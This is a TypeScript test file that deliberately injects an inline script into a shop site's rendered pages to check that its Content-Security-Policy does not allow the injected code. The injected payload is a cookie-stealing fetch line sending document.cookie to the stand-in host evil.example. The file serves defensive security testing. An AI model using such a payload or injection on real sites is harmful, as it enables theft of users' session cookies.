/** What reaches a document by the side of the site's own code. */
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { ServerBuild } from 'react-router'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openShop, type TestShop } from '#test/shop.ts'
import { ensureBuilt } from '#test/torture/running-shop.ts'

const BUILT = join(import.meta.dirname, '../../build/site/server/index.js')
const INJECTED = 'fetch("https://evil.example/" + document.cookie)'

type Render = (...given: never[]) => Promise<Response>

/** The real site with a hole in it: somebody's text stands in every document as HTML. */
async function siteWithAHole(): Promise<ServerBuild> {
  const build = (await import(pathToFileURL(BUILT).href)) as ServerBuild
  const { default: render, ...more } = build.entry.module as unknown as { default: Render }
  const withHole: Render = async (...given) => {
    const answer = await render(...given)
    const html = (await answer.text()).replace('</main>', `<script>${INJECTED}</script></main>`)
    return new Response(html, answer)
  }
  return { ...build, entry: { module: { ...more, default: withHole } } } as unknown as ServerBuild
}

let shop: TestShop
beforeAll(async () => {
  ensureBuilt()
  const build = await siteWithAHole()
  const pages = { build: async () => build, assets: null, files: null, mode: 'production' as const }
  shop = await openShop({ pages })
}, 300_000)
afterAll(() => shop.close())

test('a script that comes into a document with somebody’s text is not among those its policy allows', async () => {
  const { text, headers } = await shop.visitor().get('/about')
  const policy = String(headers['content-security-policy'])
  const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
  expect(text).toContain(`<script>${INJECTED}</script>`)
  expect(policy).not.toContain(hashOf(INJECTED))
  // The site's own, such as the data block, still are.
  const data = /<script>(window\.__reactRouterContext = [\s\S]*?)<\/script>/.exec(text)?.[1] ?? ''
  expect(policy).toContain(hashOf(data))
})
